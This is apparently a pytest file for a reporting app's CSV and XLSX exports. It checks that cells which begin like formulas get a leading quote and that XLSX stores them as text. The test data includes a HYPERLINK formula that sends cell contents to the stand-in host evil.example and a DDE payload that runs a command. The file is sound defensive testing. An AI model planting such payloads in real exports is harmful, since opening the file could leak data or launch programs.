"""No export runs what a person typed: CSV cells that begin like a formula (=, +, -, @, tab, CR) get
a leading single quote (OWASP's "CSV Injection"), in every report, from the page and the CLI alike;
numbers stay numbers; XLSX writes such text as text, never as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest

from server.auth.models import User
from server.extensions import db
from server.reports.exports import FORMULA_STARTS, csv_cell
from server.units.models import Unit
from tests.reports.test_exports import _setup

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
PHONE = "+84 912 345 678"
DASH = "- 2 chi đoàn chưa sinh hoạt"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("typed", [LINK, PHONE, DASH, AT, "\t=1+1", "\r=1+1", "\0=1+1", "=", "-"])
def test_text_that_starts_like_a_formula_gets_a_quote(typed):
    assert csv_cell(typed) == "'" + typed  # still readable: the text follows the quote


@pytest.mark.parametrize("value, cell", [
    ("Đoàn xã A1", "Đoàn xã A1"), ("", ""), (None, ""), ("a=b", "a=b"), (" =1", " =1"),
    (3, 3), (-3, -3), (2.5, 2.5), (-0.5, -0.5), (date(2024, 2, 29), "2024-02-29")])
def test_other_cells_are_left_as_they_are(value, cell):
    assert csv_cell(value) == cell


def _poison(app, world) -> int:
    """Text a person can type in every report: a cadre's and a unit's name, a summary, a mentor,
    a task, a closing report."""
    year = _setup(app, world)
    with app.app_context():
        db.session.get(User, world.cadre).full_name = LINK
        db.session.get(Unit, world.commune_a1).name = PHONE
        from server.planning.models import Placement, PlacementReport
        from server.visits.models import Visit

        placement = db.session.scalars(db.select(Placement)).one()
        placement.mentor_name = AT
        db.session.scalars(db.select(PlacementReport)).one().text = DASH
        db.session.scalars(db.select(Visit).where(Visit.summary == "=1+1 chào")).one().summary = "\t=1+1"
        db.session.commit()
    return year.plan


def _cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_neutral(rows: list[list[str]], where: str) -> set[str]:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (where, cell)
    return {cell for row in rows for cell in row}


def test_every_csv_export_neutralises_formulas_and_keeps_numbers(app, client, auth, world):
    plan = _poison(app, world)
    auth.sign_in("sup")
    pages = {"year": f"/reports/year?plan={plan}",
             "coverage": "/reports/coverage?first=2024-01-01&last=2024-12-31",
             "placements": "/reports/placements?year=2024",
             "visits": "/reports/visits?first=2024-01-01&last=2024-12-31"}
    seen: dict[str, set[str]] = {}
    for name, path in pages.items():
        response = client.get(path + "&format=csv")
        assert response.status_code == 200, name
        seen[name] = _assert_neutral(_cells(response.get_data()), name)
    assert {"'" + LINK, "'" + PHONE} <= seen["year"] | seen["coverage"]
    assert "'" + PHONE in seen["coverage"]
    assert {"'" + AT, "'" + DASH, "'" + PHONE, "'" + LINK} <= seen["placements"]
    assert {"'\t=1+1", "'" + PHONE, "'" + LINK} <= seen["visits"]
    rows = _cells(client.get(pages["year"] + "&format=csv").get_data())
    assert rows[1][3].isdigit()  # numbers stay bare numbers


def test_cli_csv_neutralises_formulas(app, runner, world, tmp_path):
    _poison(app, world)
    for args in (["year", "--year", "2024"], ["coverage", "--from", "2024-01-01", "--to", "2024-12-31"],
                 ["placements", "--year", "2024"], ["visits", "--from", "2024-01-01", "--to", "2024-12-31"]):
        out = tmp_path / f"{args[0]}.csv"
        result = runner.invoke(args=["report", *args, "--format", "csv", "-o", str(out)])
        assert result.exit_code == 0, result.output
        cells = _assert_neutral(_cells(out.read_bytes()), args[0])
        assert "'" + PHONE in cells or args[0] == "year", args[0]


def test_xlsx_keeps_a_typed_hyperlink_formula_as_text(app, client, auth, world):
    _poison(app, world)
    auth.sign_in("sup")
    response = client.get("/reports/placements?year=2024&format=xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None}
    for typed in (LINK, PHONE, AT, DASH):
        assert cells[typed].data_type == "s", typed  # a string cell, not "f" (formula)
    assert sheet.cell(2, 5).data_type == "n"  # the length in days stays a number
